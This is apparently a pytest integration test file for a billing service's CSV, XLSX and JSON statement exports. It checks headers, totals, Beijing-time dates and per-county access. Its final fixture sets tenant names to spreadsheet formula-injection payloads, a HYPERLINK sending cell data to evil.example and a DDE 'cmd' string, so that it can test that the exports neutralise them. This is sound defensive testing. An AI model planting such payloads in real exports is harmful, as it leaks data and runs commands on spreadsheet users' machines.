"""Statement exports: CSV with a BOM, XLSX opened with openpyxl, JSON; all streamed."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from decimal import Decimal

import asyncpg
import httpx
import msgspec
import openpyxl
import pytest
from litestar.response import Stream

from hub.billing import exports, service
from hub.billing.schemas import Statement
from hub.db import SingleConnectionDatabase
from hub.exports import cells as exports_cells
from tenants.service import authenticate
from tests.factories import bearer, make_key
from tests.integration.billing.conftest import OCTOBER, close


@pytest.fixture
async def province(conn: asyncpg.Connection, operator: str) -> str:
    await close(conn, OCTOBER)
    return await make_key(conn, "510000")


async def test_csv_has_a_bom_chinese_headers_yuan_and_a_totals_row(
    client: httpx.AsyncClient, province: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement.csv", headers=bearer(province))
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"  # once
    assert 'filename="statement-2026-10-510000.csv"' in resp.headers["content-disposition"]
    assert resp.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows the Chinese
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["账期", "单位代码", "单位名称"]
    assert rows[1][:12] == [
        "2026-10", "510104", "锦江区", "县级", "中国移动", "正常", "2026-10",
        "3", "0.11", "0.18", "0.07", "0",
    ]  # fmt: skip
    lines, totals = rows[1:-1], rows[-1]
    assert [r[1] for r in lines] == ["510104", "510104", "510105", "510300"]
    assert totals[0] == "合计"
    assert sum(Decimal(r[8]) for r in lines) == Decimal(totals[8]) == Decimal("0.38")
    assert sum(int(r[7]) for r in lines) == int(totals[7]) == 9


async def test_xlsx_opens_in_a_real_reader_with_numbers_in_yuan_and_totals(
    client: httpx.AsyncClient, province: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement.xlsx", headers=bearer(province))
    assert resp.status_code == 200, resp.text
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    assert book.sheetnames == ["2026-10 汇总", "2026-10 明细"]
    levels = [[cell.value for cell in row] for row in book["2026-10 汇总"].iter_rows()]
    assert levels[0][:4] == ["层级", "单位数", "计费条数", "费用(元)"]
    assert [row[0] for row in levels[1:]] == ["市级", "县级", "合计"]

    sheet = book["2026-10 明细"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header, lines, totals = rows[0], rows[1:-1], rows[-1]
    assert header[8] == "费用(元)"
    assert totals[0] == "合计"
    # Amounts are numbers, shown with two decimals; the totals row is their sum.
    cost = [Decimal(str(r[8])) for r in lines]
    assert cost == [Decimal("0.11"), Decimal("0.12"), Decimal("0.11"), Decimal("0.04")]
    assert sum(cost) == Decimal(str(totals[8])) == Decimal("0.38")
    assert sum(Decimal(str(r[9])) for r in lines) == Decimal(str(totals[9])) == Decimal("0.54")
    assert sum(r[7] for r in lines) == totals[7] == 9
    assert sheet.cell(row=2, column=9).number_format == "#,##0.00"
    assert levels[-1][3] == totals[8]  # the level sheet's total is the lines' total


async def test_json_is_written_as_it_is_read(
    conn: asyncpg.Connection, province: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A batch of lines at a time into the file the answer is sent from (hub/exports/files.py):
    the whole tree never sits in memory, and no connection waits on the client."""
    monkeypatch.setattr(exports, "BATCH", 1)  # one line per batch
    who = await authenticate(conn, province)
    assert who is not None
    db = SingleConnectionDatabase(conn)
    head = await service.statement_head(conn, who, OCTOBER)
    chunks = [chunk async for chunk in exports._json_chunks(db, who, OCTOBER, head)]
    assert len(chunks) == 6  # the head, then the 4 lines one by one, then the end
    statement = msgspec.json.decode(b"".join(chunks), type=Statement)
    assert [line.tenant for line in statement.lines] == ["510104", "510104", "510105", "510300"]
    assert statement.totals.cost_micros == sum(line.cost_micros for line in statement.lines)
    assert [level.level for level in statement.levels] == ["prefecture", "county"]

    resp = await exports.statement_export(db, who, OCTOBER, "json")
    assert isinstance(resp, Stream)
    assert isinstance(resp.iterator, AsyncIterator)
    sent = [chunk async for chunk in resp.iterator if isinstance(chunk, bytes)]
    assert b"".join(sent) == b"".join(chunks)


async def test_the_json_statement_is_the_same_over_http(
    client: httpx.AsyncClient, province: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement", headers=bearer(province))
    assert resp.headers["content-type"].startswith("application/json")
    statement = msgspec.json.decode(resp.content, type=Statement)
    assert statement.totals.segments == 9
    assert statement.totals.savings_micros == 540_000 - 380_000


async def test_a_county_exports_only_its_own_lines(
    client: httpx.AsyncClient, conn: asyncpg.Connection, province: str
) -> None:
    county = await make_key(conn, "510105")
    resp = await client.get("/v1/billing/2026-10/statement.csv", headers=bearer(county))
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:-1]] == ["510105"]
    assert rows[-1][8] == "0.11"


# A known instant: 02:00 UTC on 16 March 2027 is 10:00 in Beijing.
KNOWN = datetime(2027, 3, 16, 2, 0, tzinfo=UTC)


@pytest.fixture
async def closed_at_known(conn: asyncpg.Connection, province: str) -> str:
    await conn.execute(
        "UPDATE billing_periods SET closed_at = $2 WHERE period = $1", OCTOBER, KNOWN
    )
    return province


async def test_csv_says_when_the_month_closed_in_beijing_time(
    client: httpx.AsyncClient, closed_at_known: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement.csv", headers=bearer(closed_at_known))
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert rows[0][-1] == "结算时间(北京时间)"
    lines = rows[1:-1]
    assert lines
    assert {line[-1] for line in lines} == {"2027-03-16 10:00"}  # not 02:00, UTC's


async def test_xlsx_says_when_the_month_closed_in_beijing_time(
    client: httpx.AsyncClient, closed_at_known: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement.xlsx", headers=bearer(closed_at_known))
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    for title in ("2026-10 汇总", "2026-10 明细"):
        sheet = book[title]
        rows = list(sheet.iter_rows())
        assert rows[0][-1].value == "结算时间(北京时间)"
        for row in rows[1:-1]:  # every row but the totals
            # A date cell on Beijing's clock (Excel's dates have no zone), shown to the minute.
            assert row[-1].value == datetime(2027, 3, 16, 10, 0), title
            assert row[-1].number_format == "yyyy-mm-dd hh:mm"


async def test_the_json_statement_says_when_the_month_closed(
    client: httpx.AsyncClient, closed_at_known: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement", headers=bearer(closed_at_known))
    assert resp.json()["closed_at"] == "2027-03-16T10:00:00.000000+08:00"
    assert msgspec.json.decode(resp.content, type=Statement).closed_at == KNOWN


@pytest.mark.parametrize("suffix", ["", ".csv", ".xlsx"])
async def test_an_open_month_is_404_before_any_byte(
    client: httpx.AsyncClient, conn: asyncpg.Connection, operator: str, suffix: str
) -> None:
    resp = await client.get(f"/v1/billing/2026-10/statement{suffix}", headers=bearer(operator))
    assert resp.status_code == 404
    assert resp.json()["error"] == "not_found"


HOSTILE_NAMES = {
    "510104": '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "510105": "+1+cmd|' /C calc'!A0",
    "510300": "-2+3\x01",  # and a character XML cannot carry
}


@pytest.fixture
async def hostile(conn: asyncpg.Connection, operator: str) -> str:
    """Counties that named themselves as formulas before October closed with their lines."""
    for code, name in HOSTILE_NAMES.items():
        await conn.execute("UPDATE tenants SET name = $2 WHERE code = $1", code, name)
    await close(conn, OCTOBER)
    return await make_key(conn, "510000")


async def test_xlsx_has_no_formula_cell_anywhere(client: httpx.AsyncClient, hostile: str) -> None:
    resp = await client.get("/v1/billing/2026-10/statement.xlsx", headers=bearer(hostile))
    assert resp.status_code == 200, resp.text
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # The names are there, exactly as written, as text a spreadsheet shows and never runs.
    names = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in HOSTILE_NAMES.values():
        shown = name.replace("\x01", "\ufffd")
        assert names[shown].data_type == "s"
        assert names[shown].quotePrefix


async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    client: httpx.AsyncClient, hostile: str
) -> None:
    resp = await client.get("/v1/billing/2026-10/statement.csv", headers=bearer(hostile))
    assert resp.status_code == 200, resp.text
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    names = {row[1]: row[2] for row in rows[1:-1]}
    assert names == {code: "'" + name for code, name in HOSTILE_NAMES.items()}
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports_cells.FORMULA_STARTS) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True
